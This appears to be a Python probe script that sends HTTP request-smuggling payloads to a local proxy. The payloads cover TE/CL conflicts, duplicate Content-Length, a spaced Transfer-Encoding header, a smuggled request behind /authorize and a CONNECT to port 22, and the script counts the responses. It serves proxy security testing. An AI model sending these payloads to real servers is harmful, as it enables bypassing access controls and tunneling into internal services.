import socket, sys
port, hp = int(sys.argv[1]), sys.argv[2]
def go(name, data):
    s = socket.create_connection(("127.0.0.1", port)); s.settimeout(3); s.sendall(data); out=b""
    try:
        while True:
            b=s.recv(65536)
            if not b: break
            out+=b
    except Exception: pass
    print("%-14s" % name, out.count(b"HTTP/1.1 "), "responses;", out[:90].decode(errors="replace").replace("\r\n"," | "))
smug = b"GET http://%s/smuggled-second HTTP/1.1\r\nHost: %s\r\n\r\n" % (hp.encode(), hp.encode())
go("te+cl", b"POST http://%s/x HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (hp.encode(), hp.encode()) + smug)
go("te-identity", b"POST http://%s/x HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: identity\r\nContent-Length: 5\r\n\r\nhello" % (hp.encode(), hp.encode()))
go("te-gzip", b"POST http://%s/x HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: gzip\r\n\r\nhello" % (hp.encode(), hp.encode()))
go("cl-dup", b"POST http://%s/x HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\nhello" % (hp.encode(), hp.encode()))
go("te-space", b"POST http://%s/x HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" % (hp.encode(), hp.encode()))
go("prefix-te", b"POST http://%s/authorize HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (hp.encode(), hp.encode()) + smug)
go("connect22", b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n")
go("origin-form", b"GET /authorize HTTP/1.1\r\nHost: %s\r\n\r\n" % hp.encode())
